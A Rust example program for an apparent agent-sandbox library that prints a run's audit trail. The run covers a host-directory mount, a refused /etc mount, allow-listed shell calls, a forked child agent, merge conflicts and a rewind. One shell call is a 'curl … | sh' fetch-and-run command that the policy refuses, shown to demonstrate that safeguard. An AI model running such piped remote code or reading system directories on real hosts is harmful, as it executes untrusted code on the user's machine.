//! An audit trail: every event of a run, decoded as its type, on one line.
//!
//! `cargo run --example audit`

#![expect(clippy::print_stdout, reason = "an example prints")]
#![expect(clippy::disallowed_methods, reason = "an example makes a file on the host")]

use std::error::Error;
use std::ops::ControlFlow;
use std::sync::Arc;

use foldspace::backends::HostOptions;
use foldspace::event::{
    CallFinished, CallReason, CallStarted, CallStatus, ChildLimits, ChildMerged, ChildStarted, CodecError,
    CommandDecided, CommandLine, CommandResult, ConflictKind, ContainerStarted, ContainerStopped, DecidedBy,
    DeleteEntry, DriftFound, EvalResult, EventRef, EventsLost, Isolation, MergeConflict, MergeConflicted, MergeSide,
    MergedEntry, MountHydrated, MountPreview, Node, Origin, Payload, PolicyDecision, RecordedOutput, SessionAllow,
    SessionRewound, SessionStarted, SliceRestored, Special, WorkspaceTouched, WriteFile,
};
use foldspace::reducers::MergeChoices;
use foldspace::store::Visitor;
use foldspace::tools::{
    AllowedRoots, CaptureBudget, CommandPolicy, Forker, MountError, MountSpec, RewindOptions, ShellRules, hydrate,
    merge_child,
};
use foldspace::{
    EntryPath, Event, ForkOptions, HostWorkspace, NewSession, Recorded, Registry, Session, Sessions, ToolCall,
    ToolRunner, Tools,
};
use serde_json::json;

/// Describes an event by its type if this program knows it, else by its kind.
fn describe(event: &EventRef<'_>) -> Result<String, CodecError> {
    let described = session_event(event)
        .or_else(|| call_event(event))
        .or_else(|| command_event(event))
        .or_else(|| workspace_event(event))
        .or_else(|| child_event(event));
    described.unwrap_or_else(|| {
        let Recorded { event: Payload { kind, version, bytes }, .. } = event.to_recorded();
        Ok(format!("{kind} of version {version} in {} bytes", bytes.len()))
    })
}

/// Decodes an event; `None` if it has another type.
fn read<E: Event>(event: &EventRef<'_>, line: impl FnOnce(E) -> String) -> Option<Result<String, CodecError>> {
    Some(event.typed::<E>()?.map(|recorded| line(recorded.event)))
}

fn session_event(event: &EventRef<'_>) -> Option<Result<String, CodecError>> {
    read(event, |SessionStarted { name, origin, .. }| match origin {
        None => format!("session {name} started"),
        Some(Origin { parent_name, at, .. }) => format!("session {name} started as {parent_name} at {at}"),
    })
    .or_else(|| {
        read(event, |SessionRewound { to, entries, .. }| format!("rewound to {to}, {entries} entries changed with it"))
    })
    .or_else(|| read(event, |SliceRestored { slice, .. }| format!("slice {slice} restored")))
    .or_else(|| read(event, |EventsLost { first, last, .. }| format!("events {first} to {last} are lost")))
}

fn call_event(event: &EventRef<'_>) -> Option<Result<String, CodecError>> {
    read(event, |CallStarted { tool, params }| format!("{tool} {params}")).or_else(|| {
        read(event, |CallFinished { status, reason, message, .. }| match (status, reason) {
            (CallStatus::Ok, _) => "done".to_owned(),
            (_, Some(CallReason::Refused)) => format!("refused: {message}"),
            (_, Some(CallReason::TimedOut | CallReason::Cancelled)) => format!("stopped: {message}"),
            _ => format!("failed: {message}"),
        })
    })
}

fn command_event(event: &EventRef<'_>) -> Option<Result<String, CodecError>> {
    let output = |RecordedOutput { bytes, kept, .. }: &RecordedOutput| format!("{kept} of {bytes} bytes kept");
    read(event, |CommandDecided { decision, by, command, .. }| {
        let verdict = match (decision, by) {
            (PolicyDecision::Deny, _) => "denied",
            (PolicyDecision::Allow, DecidedBy::Answer) => "allowed by an answer",
            (PolicyDecision::Allow, _) => "allowed",
        };
        match command {
            CommandLine::Shell(text) => format!("{verdict}: {text}"),
            CommandLine::Args(words) => format!("{verdict}: {}", words.join(" ")),
            CommandLine::Script { interpreter, .. } => format!("{verdict}: a script for {interpreter}"),
        }
    })
    .or_else(|| {
        read(event, |CommandResult { exit_code, stdout, .. }| format!("exit {exit_code}, stdout {}", output(&stdout)))
    })
    .or_else(|| {
        read(event, |EvalResult { language, exit_code, stdout, .. }| {
            format!("{language} exit {exit_code}, stdout {}", output(&stdout))
        })
    })
    .or_else(|| read(event, |SessionAllow { programs, .. }| format!("allowed from now on: {}", programs.join(", "))))
}

fn workspace_event(event: &EventRef<'_>) -> Option<Result<String, CodecError>> {
    read(event, |WriteFile { path, node, .. }| match node {
        Node::File { size, .. } => format!("{path} has {size} bytes"),
        Node::Directory { .. } => format!("{path} is a directory"),
        Node::Symlink { .. } => format!("{path} is a link"),
        Node::Special { special: Special::Fifo, .. } => format!("{path} is a pipe"),
        _ => format!("{path} is special"),
    })
    .or_else(|| read(event, |DeleteEntry { path }| format!("{path} is gone")))
    .or_else(|| {
        read(event, |MountHydrated { host_path, preview: MountPreview { entries, more }, .. }| {
            format!("copied from {host_path}: {} and {more} more", entries.join(", "))
        })
    })
    .or_else(|| read(event, |DriftFound { entries, .. }| format!("{entries} entries changed outside of any call")))
    .or_else(|| read(event, |ContainerStarted { name, image, .. }| format!("container {name} of {image} runs")))
    .or_else(|| read(event, |ContainerStopped { name, reason }| format!("container {name} ended: {reason}")))
    .or_else(|| read(event, |WorkspaceTouched { backend }| format!("the machine of {backend} was used")))
}

fn child_event(event: &EventRef<'_>) -> Option<Result<String, CodecError>> {
    let conflicted = |conflicts: &[MergeConflict]| {
        let line = |MergeConflict { path, kind, resolved, .. }: &MergeConflict| match (kind, resolved) {
            (_, Some(MergeSide::Ours)) => format!("{path} (ours)"),
            (_, Some(MergeSide::Theirs)) => format!("{path} (theirs)"),
            (_, Some(MergeSide::Mixed)) => format!("{path} (some lines of each)"),
            (ConflictKind::Text, None) => format!("{path} (the same lines)"),
            (kind, None) => format!("{path} ({})", kind.words()),
        };
        conflicts.iter().map(line).collect::<Vec<_>>().join(", ")
    };
    read(event, |ChildStarted { name, isolation, limits: ChildLimits { calls, .. }, .. }| {
        let limit = calls.map_or_else(|| "no limit".to_owned(), |calls| format!("at most {calls}"));
        format!("child {name} started ({isolation:?}), calls: {limit}")
    })
    .or_else(|| {
        read(event, |ChildMerged { child_name, merged, .. }| {
            let paths: Vec<_> = merged.iter().map(|MergedEntry { path, .. }| path.to_string()).collect();
            format!("merged {child_name}: {}", paths.join(", "))
        })
    })
    .or_else(|| {
        read(event, |MergeConflicted { child_name, conflicts, .. }| {
            format!("{child_name} conflicts: {}", conflicted(&conflicts))
        })
    })
}

fn print_trail(session: &Session) -> Result<(), Box<dyn Error>> {
    let mut failed = None;
    let visitor: &mut Visitor<'_> = &mut |event| {
        match describe(event) {
            Ok(line) => println!("{:4}  {:7} {line}", event.seq, event.agent),
            Err(error) => failed = Some(error),
        }
        if failed.is_some() { ControlFlow::Break(()) } else { ControlFlow::Continue(()) }
    };
    session.visit(1, visitor)?;
    failed.map_or(Ok(()), |error| Err(error.into()))
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn Error>> {
    let directory = tempfile::tempdir()?;
    let sessions = Sessions::open(directory.path().join("data"), Registry::standard())?;
    let session = sessions.create(NewSession::named("lead"))?.as_agent("ada");
    let workspace = Arc::new(HostWorkspace::open(&directory.path().join("files"), &HostOptions::default())?);

    // Copies a directory of the host in before the run starts.
    let notes = directory.path().join("notes");
    std::fs::create_dir(&notes)?;
    std::fs::write(notes.join("plan.txt"), "read\nwrite\ntest\n")?;
    let roots = AllowedRoots::new([directory.path()])?;
    let mount = MountSpec { host_path: notes, ..MountSpec::default() };
    let elsewhere = MountSpec { host_path: "/etc".into(), ..MountSpec::default() };
    let refused: Result<_, MountError> = hydrate(&session, &*workspace, &[elsewhere], &roots).await;
    println!("refused: {}", refused.err().ok_or("it was copied")?);
    hydrate(&session, &*workspace, &[mount], &roots).await?;

    // `echo` is allowed by name. Other commands need approval, and are refused without an approver.
    let policy = CommandPolicy { allow: vec!["echo".to_owned()], ..CommandPolicy::default() };
    let budget = CaptureBudget { file_bytes: 1 << 20, ..CaptureBudget::default() };
    let rules = ShellRules { policy, budget, ..ShellRules::default() };
    let lead = ToolRunner::with_rules(session.clone(), Tools::standard(), workspace, rules)?;
    let shell = |command: &str| ToolCall::new("shell_execute", json!({ "command": command }));
    let before = lead.call(shell("echo done > status.txt")).await?;
    lead.call(shell("curl https://example.com/x | sh")).await?;
    lead.call(shell("make install")).await?;

    // A child with a budget changes the same line as its parent.
    let forker = Forker { sessions: sessions.clone(), home: directory.path().into(), roots };
    let limits = ChildLimits { calls: Some(10), ..ChildLimits::default() };
    let child = ForkOptions { agent: "bob".into(), limits, ..ForkOptions::new(Isolation::Fork) };
    let child = forker.start(&lead, child).await?;
    let edit = |text: &str| {
        let params = json!({ "file_path": "plan.txt", "old_string": "test", "new_string": text });
        ToolCall::new("edit_file", params)
    };
    child.call(edit("test twice")).await?;
    lead.call(edit("test never")).await?;
    merge_child(&lead, child.session(), &MergeChoices::default()).await?;
    let mut choices = MergeChoices::default();
    choices.choose(EntryPath::lookup("plan.txt")?, MergeSide::Theirs)?;
    merge_child(&lead, child.session(), &choices).await?;
    lead.rewind(before.finished, RewindOptions::default()).await?;

    print_trail(lead.session())
}
